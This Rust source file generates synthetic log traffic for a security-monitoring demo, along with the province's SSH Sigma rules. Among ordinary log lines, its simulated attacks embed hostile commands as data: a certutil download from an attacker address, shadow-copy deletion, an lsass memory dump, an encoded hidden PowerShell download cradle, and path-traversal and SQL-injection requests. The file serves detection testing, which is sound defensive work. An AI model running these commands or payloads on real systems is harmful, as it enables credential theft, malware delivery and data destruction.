//! The demo province's log traffic: Linux hosts' sshd/sudo/cron lines, Windows hosts' Sysmon
//! process events and web servers' access lines, most of them ordinary, some of them attacks
//! that the bundled SigmaHQ rules (and two rules written for the province, one a correlation)
//! detect. Everything goes through the real pipeline — the same path as syslog or the ingest
//! API — so the alerts, events and rules pages show what the platform does.

use std::sync::Arc;
use std::time::Duration;

use canhgac_domain::entity::EntityKind;
use canhgac_domain::time::now_ms;
use canhgac_domain::Scope;
use canhgac_ops::monitor::{Body, Monitor, Raw};
use canhgac_store::{Actor, ListQuery, Store};
use serde_json::json;

use crate::Dice;

/// Rules written for the province (Vietnamese titles), loaded as custom rules.
pub const PROVINCE_RULES: &[(&str, &str)] = &[
    (
        "lai_chau_ssh_root.yml",
        "title: Đăng nhập SSH bằng tài khoản root thành công\n\
id: 4c1a1c40-0000-4000-8000-00000000a001\n\
status: stable\n\
description: Tài khoản root đăng nhập SSH bằng mật khẩu; theo quy định của Sở chỉ được dùng khoá và tài khoản cá nhân.\n\
author: Sở TTTT Lai Châu\n\
level: high\n\
tags: [attack.initial-access, attack.t1078.003]\n\
logsource: {product: linux, service: auth}\n\
detection:\n  selection:\n    user: root\n    outcome: success\n    auth_method: password\n  condition: selection\n",
    ),
    (
        "lai_chau_ssh_bruteforce.yml",
        "title: Đăng nhập SSH thất bại\n\
id: 4c1a1c40-0000-4000-8000-00000000a002\n\
name: ssh_failed_login\n\
status: stable\n\
level: low\n\
logsource: {product: linux, service: auth}\n\
detection:\n  selection:\n    outcome: failure\n  condition: selection\n\
---\n\
title: Dò mật khẩu SSH (từ 6 lần thất bại trong 5 phút từ một địa chỉ)\n\
id: 4c1a1c40-0000-4000-8000-00000000a003\n\
status: stable\n\
description: Một địa chỉ thử mật khẩu SSH nhiều lần liên tiếp; đối chiếu với danh sách IP Botnet.\n\
author: Sở TTTT Lai Châu\n\
level: high\n\
tags: [attack.credential-access, attack.t1110.001]\n\
correlation:\n  type: event_count\n  rules: [ssh_failed_login]\n  group-by: [src_ip, host]\n  timespan: 5m\n  condition: {gte: 6}\n",
    ),
];

/// Loads the province's rules once (they are kept if an administrator changes them).
pub async fn load_rules(store: &Store, monitor: &Monitor) -> anyhow::Result<()> {
    // The pipeline's worker writes the bundled rules into the store as it starts; adding ours
    // at the same moment fails with "database is locked" on SQLite. Wait for its first
    // compilation (a minute at most: if it failed, the reload below says why).
    let started = std::time::Instant::now();
    while monitor.rules_summary().compiled_at == 0 && started.elapsed() < Duration::from_secs(60) {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let actor = Actor::system("demo");
    for (name, yaml) in PROVINCE_RULES {
        let metas = canhgac_ops::monitor::validate_custom_rule(
            name,
            yaml,
            &monitor.config().placeholders,
            None,
        )
        .map_err(|p| anyhow::anyhow!("demo rule {name}: {}", p.join("; ")))?;
        for (i, m) in metas.into_iter().enumerate() {
            if store
                .list_rules(
                    &canhgac_domain::Scope::All,
                    &canhgac_store::RuleFilter {
                        q: Some(m.rule_key.clone()),
                        ..Default::default()
                    },
                )
                .await?
                .1
                > 0
            {
                continue;
            }
            let mut m = m;
            if i > 0 {
                m.yaml = None;
            }
            store.add_custom_rule(&actor, &m).await?;
        }
    }
    monitor.reload().await.map_err(anyhow::Error::msg)?;
    Ok(())
}

/// A host as the generator needs it.
#[derive(Clone)]
pub struct DemoHost {
    name: String,
    ip: String,
    windows: bool,
    web: bool,
    /// A firewall or router (the registry's network devices): sends FortiGate traffic logs.
    firewall: bool,
}

/// The registry's servers and workstations, split by what they run.
pub async fn hosts(store: &Store) -> anyhow::Result<Vec<DemoHost>> {
    let page = store
        .list(
            EntityKind::Host,
            &Scope::All,
            &ListQuery {
                limit: Some(5000),
                ..Default::default()
            },
        )
        .await?;
    Ok(page
        .items
        .iter()
        // Network devices send only when they are FortiGate firewalls (their traffic log).
        .filter(|h| {
            h["kind"] != "network" || h["os"].as_str().unwrap_or_default().contains("FortiOS")
        })
        .map(|h| {
            let name = h["hostname"].as_str().unwrap_or_default().to_string();
            let os = h["os"].as_str().unwrap_or_default();
            DemoHost {
                firewall: h["kind"] == "network",
                web: name.contains("web") || name.contains("portal") || name.contains("cong"),
                windows: os.contains("Windows"),
                ip: canhgac_domain::net::host_addresses(h["ips"].as_str().unwrap_or_default())
                    .next()
                    .map(|ip| ip.to_string())
                    .unwrap_or_default(),
                name,
            }
        })
        .collect())
}

/// The server that goes silent in the demo: the last Linux server that is not a web server.
pub fn silent_host(hosts: &[DemoHost]) -> Option<String> {
    hosts
        .iter()
        .rev()
        .find(|h| !h.windows && !h.web && !h.firewall)
        .map(|h| h.name.clone())
}

/// The attackers' addresses: those the seeded Botnet lists carry ([`crate::ATTACKERS`]).
fn attacker(dice: &mut Dice) -> &'static str {
    dice.pick(crate::ATTACKERS).0
}
const USERS: &[&str] = &[
    "admin",
    "nguyenvana",
    "tranthib",
    "oracle",
    "test",
    "ubuntu",
];

fn vn(ms: i64) -> Option<chrono::DateTime<chrono::FixedOffset>> {
    use chrono::TimeZone;
    canhgac_domain::time::vn_offset()
        .timestamp_millis_opt(ms)
        .single()
}

/// RFC 3164 timestamps are local time: Asia/Ho_Chi_Minh.
fn syslog_time(ms: i64) -> String {
    vn(ms)
        .map(|t| t.format("%b %e %H:%M:%S").to_string())
        .unwrap_or_default()
}

/// Apache/Nginx access log time.
fn access_time(ms: i64) -> String {
    vn(ms)
        .map(|t| t.format("%d/%b/%Y:%H:%M:%S %z").to_string())
        .unwrap_or_default()
}

/// Sysmon's UtcTime.
/// RFC 3339 UTC with milliseconds (Winlogbeat's `@timestamp`).
fn utc_iso(ms: i64) -> String {
    use chrono::TimeZone;
    chrono::Utc
        .timestamp_millis_opt(ms)
        .single()
        .map(|t| t.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string())
        .unwrap_or_default()
}

fn utc(ms: i64) -> String {
    use chrono::TimeZone;
    chrono::Utc
        .timestamp_millis_opt(ms)
        .single()
        .map(|t| t.format("%Y-%m-%d %H:%M:%S%.3f").to_string())
        .unwrap_or_default()
}

/// How often the live generator sends a burst.
pub const LIVE_EVERY_MS: i64 = 3_000;

/// Mean time between two attacks. The generator once attacked in two bursts of three (about
/// 1,100 new alerts and 1,500 detections an hour with the bundled SigmaHQ rules — no team could
/// work through that); one attack every two and a half minutes keeps each pattern appearing
/// a few times an hour and the alerts to a few dozen (see `tests/traffic.rs`).
pub const ATTACK_EVERY_MS: i64 = 150_000;

/// The attacks the generator makes, by name.
pub const ATTACK_KINDS: &[&str] = &[
    "ssh-bruteforce",
    "ssh-root-password",
    "certutil-download",
    "shadow-copy-delete",
    "lsass-dump",
    "powershell-encoded",
    "web-attack",
];

/// An attack the generator made: what, on which host, from which address (if any), when.
#[derive(Debug, Clone)]
pub struct Attack {
    /// One of [`ATTACK_KINDS`].
    pub kind: &'static str,
    /// The host attacked.
    pub host: String,
    /// The attacker's address, when the records name one.
    pub source: Option<&'static str>,
    /// When (Unix ms).
    pub at: i64,
}

/// One burst of traffic at `at`: a handful of records, now and then an attack.
pub fn burst(dice: &mut Dice, hosts: &[DemoHost], at: i64) -> Vec<Raw> {
    burst_at(dice, hosts, at, LIVE_EVERY_MS).0
}

/// One burst of traffic at `at` standing for `span_ms` of time: a handful of ordinary
/// records, and an attack with a chance proportional to the span, and which attack it was.
pub fn burst_at(
    dice: &mut Dice,
    hosts: &[DemoHost],
    at: i64,
    span_ms: i64,
) -> (Vec<Raw>, Option<Attack>) {
    let mut out = Vec::new();
    if hosts.is_empty() {
        return (out, None);
    }
    let linux: Vec<&DemoHost> = hosts.iter().filter(|h| !h.windows && !h.firewall).collect();
    let firewalls: Vec<&DemoHost> = hosts.iter().filter(|h| h.firewall).collect();
    let windows: Vec<&DemoHost> = hosts.iter().filter(|h| h.windows).collect();
    let web: Vec<&DemoHost> = linux.iter().copied().filter(|h| h.web).collect();
    let line = |h: &DemoHost, app: &str, pid: usize, msg: String| {
        let mut r = Raw::new(
            "udp",
            h.ip.parse().ok(),
            Body::Line(format!(
                "<38>{} {} {app}[{pid}]: {msg}",
                syslog_time(at),
                h.name
            )),
        );
        r.received_at = at;
        r
    };
    // Windows hosts ship Sysmon through NXLog (flat JSON) or, where the name ends in an odd
    // digit, through Winlogbeat (ECS `winlog.*`): the same events, two forwarders.
    let sysmon = |h: &DemoHost, image: &str, cmd: &str, parent: &str, original: &str| {
        let user = format!("{}\\{}", h.name.to_uppercase(), "nguyenvana");
        let winlogbeat = h
            .name
            .chars()
            .last()
            .and_then(|c| c.to_digit(10))
            .is_some_and(|d| d % 2 == 1);
        let body = if winlogbeat {
            json!({
                "@timestamp": utc_iso(at),
                "agent": {"type": "winlogbeat", "version": "8.15.0"},
                "event": {"code": "1", "provider": "Microsoft-Windows-Sysmon", "kind": "event"},
                "host": {"name": h.name},
                "winlog": {
                    "channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1",
                    "provider_name": "Microsoft-Windows-Sysmon", "computer_name": h.name,
                    "event_data": {
                        "UtcTime": utc(at), "Image": image, "CommandLine": cmd,
                        "ParentImage": parent, "OriginalFileName": original, "User": user,
                        "IntegrityLevel": "High", "CurrentDirectory": "C:\\Windows\\system32\\",
                    },
                },
            })
        } else {
            json!({
                "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
                "Provider_Name": "Microsoft-Windows-Sysmon", "Computer": h.name, "Hostname": h.name,
                "UtcTime": utc(at), "Image": image, "CommandLine": cmd,
                "ParentImage": parent, "OriginalFileName": original, "User": user,
                "IntegrityLevel": "High", "CurrentDirectory": "C:\\Windows\\system32\\",
                "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog",
            })
        };
        let mut r = Raw::new("http", h.ip.parse().ok(), Body::Json(body.to_string()));
        r.received_at = at;
        r
    };
    // The firewalls' traffic log (FortiGate key=value over syslog): mostly allowed web
    // traffic out, now and then a denied probe in from one of the listed attackers.
    if !firewalls.is_empty() {
        let fw = *dice.pick(&firewalls);
        let deny = dice.below(4) == 0;
        let (src, dst, port, action) = if deny {
            (
                attacker(dice).to_string(),
                fw.ip.clone(),
                *dice.pick(&[22, 23, 445, 3389, 8080]),
                "deny",
            )
        } else {
            (
                format!(
                    "10.{}.{}.{}",
                    20 + dice.below(20),
                    dice.below(255),
                    1 + dice.below(254)
                ),
                format!("142.250.{}.{}", dice.below(255), 1 + dice.below(254)),
                443,
                "accept",
            )
        };
        let t = canhgac_domain::time::fmt_datetime(at);
        // fmt_datetime is dd/mm/yyyy HH:MM (UTC+7); FortiGate writes date=yyyy-mm-dd time=hh:mm:ss.
        let (d, hm) = t.split_once(' ').unwrap_or((&t, "00:00"));
        let mut dp = d.split('/');
        let (dd, mm, yy) = (
            dp.next().unwrap_or("01"),
            dp.next().unwrap_or("01"),
            dp.next().unwrap_or("2026"),
        );
        let mut r = Raw::new(
            "udp",
            fw.ip.parse().ok(),
            Body::Line(format!(
                "<189>date={yy}-{mm}-{dd} time={hm}:{:02} devname=\"{}\" devid=\"FG100FTK2290{:04}\" logid=\"{}\" type=\"traffic\" subtype=\"{}\" level=\"notice\" vd=\"root\" srcip={src} srcport={} srcintf=\"{}\" dstip={dst} dstport={port} dstintf=\"{}\" sessionid={} proto=6 action=\"{action}\" policyid={} service=\"{}\" sentbyte={} rcvdbyte={}",
                dice.below(60),
                fw.name,
                dice.below(10000),
                if deny { "0001000014" } else { "0000000013" },
                if deny { "local" } else { "forward" },
                1024 + dice.below(60000),
                if deny { "wan1" } else { "internal" },
                if deny { "root" } else { "wan1" },
                100000 + dice.below(900000),
                if deny { 0 } else { 1 + dice.below(20) },
                match port { 22 => "SSH", 23 => "TELNET", 445 => "SMB", 3389 => "RDP", 8080 => "HTTP-8080", _ => "HTTPS" },
                if deny { 0 } else { 500 + dice.below(5000) },
                if deny { 0 } else { 2000 + dice.below(90000) },
            )),
        );
        r.received_at = at;
        out.push(r);
    }
    // Ordinary traffic.
    for _ in 0..(2 + dice.below(4)) {
        match dice.below(5) {
            0 | 1 if !linux.is_empty() => {
                let h = *dice.pick(&linux);
                let msg = match dice.below(3) {
                    0 => format!("Accepted publickey for {} from 10.{}.{}.{} port {} ssh2: ED25519 SHA256:kQ3v", dice.pick(USERS), 20 + dice.below(20), dice.below(255), 1 + dice.below(254), 40000 + dice.below(20000)),
                    1 => "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)".to_string(),
                    _ => format!("pam_unix(sudo:session): session opened for user root(uid=0) by {}(uid=1000)", dice.pick(USERS)),
                };
                let app = if msg.starts_with("Accepted") {
                    "sshd"
                } else if msg.contains("cron") {
                    "CRON"
                } else {
                    "sudo"
                };
                out.push(line(h, app, 1000 + dice.below(30000), msg));
            }
            2 | 3 if !windows.is_empty() => {
                let h = *dice.pick(&windows);
                let (img, cmd, parent, orig) = *dice.pick(&[
                    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe"),
                    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\System32\\services.exe", "svchost.exe"),
                    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"D:\\VanBan\\CongVan_737.docx\"", "C:\\Windows\\explorer.exe", "WinWord.exe"),
                ]);
                out.push(sysmon(h, img, cmd, parent, orig));
            }
            _ if !web.is_empty() => {
                let h = *dice.pick(&web);
                let path = *dice.pick(&[
                    "/",
                    "/tin-tuc/thong-bao-lich-nghi-le",
                    "/van-ban/737-STTTT-BCVTCNTT.pdf",
                    "/lien-he",
                    "/static/css/site.css",
                ]);
                let mut r = Raw::new("udp", h.ip.parse().ok(), Body::Line(format!(
                    "<190>{} {} nginx: 113.{}.{}.{} - - [{}] \"GET {path} HTTP/1.1\" 200 {} \"-\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"",
                    syslog_time(at), h.name, 160 + dice.below(30), dice.below(255), 1 + dice.below(254),
                    access_time(at),
                    500 + dice.below(40000)
                )));
                // nginx's own `access_log syslog:…`: the access line inside a syslog frame.
                r.received_at = at;
                out.push(r);
            }
            _ => {}
        }
    }
    // Now and then, an attack.
    let attack = |kind: &'static str, host: &DemoHost, source: Option<&'static str>| {
        Some(Attack {
            kind,
            host: host.name.clone(),
            source,
            at,
        })
    };
    let attacking = (dice.below(ATTACK_EVERY_MS as usize) as i64) < span_ms;
    let made = match if attacking { dice.below(8) } else { 8 } {
        0 | 1 if !linux.is_empty() => {
            // Password guessing from a listed address: the correlation rule fires at six.
            let h = *dice.pick(&linux);
            let src = attacker(dice);
            for _ in 0..(4 + dice.below(5)) {
                let user = *dice.pick(USERS);
                out.push(line(
                    h,
                    "sshd",
                    2000 + dice.below(9000),
                    format!(
                        "Failed password for invalid user {user} from {src} port {} ssh2",
                        30000 + dice.below(30000)
                    ),
                ));
            }
            attack("ssh-bruteforce", h, Some(src))
        }
        2 if !linux.is_empty() => {
            let h = *dice.pick(&linux);
            let src = attacker(dice);
            out.push(line(
                h,
                "sshd",
                2222,
                format!(
                    "Accepted password for root from {src} port {} ssh2",
                    30000 + dice.below(30000)
                ),
            ));
            attack("ssh-root-password", h, Some(src))
        }
        3 if !windows.is_empty() => {
            let h = *dice.pick(&windows);
            let ip = attacker(dice);
            out.push(sysmon(h, "C:\\Windows\\System32\\certutil.exe", &format!("certutil.exe -urlcache -split -f http://{ip}/update.exe C:\\Users\\Public\\update.exe"), "C:\\Windows\\System32\\cmd.exe", "CertUtil.exe"));
            attack("certutil-download", h, Some(ip))
        }
        4 if !windows.is_empty() => {
            let h = *dice.pick(&windows);
            out.push(sysmon(
                h,
                "C:\\Windows\\System32\\vssadmin.exe",
                "vssadmin.exe delete shadows /all /quiet",
                "C:\\Windows\\System32\\cmd.exe",
                "VSSADMIN.EXE",
            ));
            attack("shadow-copy-delete", h, None)
        }
        5 if !windows.is_empty() => {
            let h = *dice.pick(&windows);
            out.push(sysmon(h, "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "RUNDLL32.EXE"));
            attack("lsass-dump", h, None)
        }
        6 if !windows.is_empty() => {
            let h = *dice.pick(&windows);
            out.push(sysmon(h, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "C:\\Windows\\System32\\cmd.exe", "PowerShell.EXE"));
            attack("powershell-encoded", h, None)
        }
        7 if !web.is_empty() => {
            let h = *dice.pick(&web);
            let attack_path = *dice.pick(&[
                "/index.php?page=../../../../etc/passwd",
                "/tin-tuc?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
                "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
                "/wp-login.php",
            ]);
            let src = attacker(dice);
            let mut r = Raw::new("udp", h.ip.parse().ok(), Body::Line(format!(
                "<190>{} {} nginx: {src} - - [{}] \"GET {attack_path} HTTP/1.1\" 404 153 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"",
                syslog_time(at),
                h.name,
                access_time(at),
            )));
            r.received_at = at;
            out.push(r);
            attack("web-attack", h, Some(src))
        }
        _ => None,
    };
    (out, made)
}

/// A few hours of history at start-up, so the pages are not empty.
pub async fn backfill(store: &Store, monitor: &Monitor, hours: i64) -> anyhow::Result<u64> {
    let all = hosts(store).await?;
    // One server stops sending two hours before now, as if its forwarder had been stopped:
    // the sources page shows it gone silent and its organisation gets the alert.
    let quiet = silent_host(&all);
    let without: Vec<DemoHost> = all
        .iter()
        .filter(|h| Some(&h.name) != quiet.as_ref())
        .cloned()
        .collect();
    let mut dice = Dice::new(0x1a1c_4a05);
    let now = now_ms();
    let mut at = now - hours * 3_600_000;
    let mut next_beat = at;
    let mut batch = Vec::new();
    let mut stored = 0;
    while at < now {
        // Fewer bursts than live, each standing for its gap: the same attacks per hour.
        let gap = 40_000 + dice.below(80_000) as i64;
        // The server that goes silent logs its cron run every five minutes until it stops:
        // a steady habit, so its silence stands out.
        while next_beat <= at && next_beat < now - 2 * 3_600_000 {
            if let Some(q) = quiet
                .as_ref()
                .and_then(|q| all.iter().find(|h| &h.name == q))
            {
                let mut r = Raw::new(
                    "udp",
                    q.ip.parse().ok(),
                    Body::Line(format!(
                        "<78>{} {} CRON[{}]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)",
                        syslog_time(next_beat),
                        q.name,
                        20000 + (next_beat / 1000) % 9000
                    )),
                );
                r.received_at = next_beat;
                batch.push(r);
            }
            next_beat += 5 * 60_000;
        }
        let hs = if at < now - 2 * 3_600_000 {
            &all
        } else {
            &without
        };
        batch.extend(burst_at(&mut dice, hs, at, gap).0);
        at += gap;
        if batch.len() >= 500 {
            stored += monitor
                .ingest(std::mem::take(&mut batch))
                .await
                .map_err(anyhow::Error::msg)?
                .stored;
        }
    }
    if !batch.is_empty() {
        stored += monitor
            .ingest(batch)
            .await
            .map_err(anyhow::Error::msg)?
            .stored;
    }
    Ok(stored)
}

/// Live traffic for as long as the demo runs.
pub async fn live(store: Store, monitor: Arc<Monitor>, every: Duration) {
    let mut dice = Dice::new(now_ms() as u64);
    let Ok(all) = hosts(&store).await else { return };
    let quiet = silent_host(&all);
    let hs: Vec<DemoHost> = all
        .into_iter()
        .filter(|h| Some(&h.name) != quiet.as_ref())
        .collect();
    loop {
        tokio::time::sleep(every).await;
        let span = i64::try_from(every.as_millis()).unwrap_or(LIVE_EVERY_MS);
        let batch = burst_at(&mut dice, &hs, now_ms(), span).0;
        if !batch.is_empty() && !monitor.submit(batch).await {
            return;
        }
    }
}
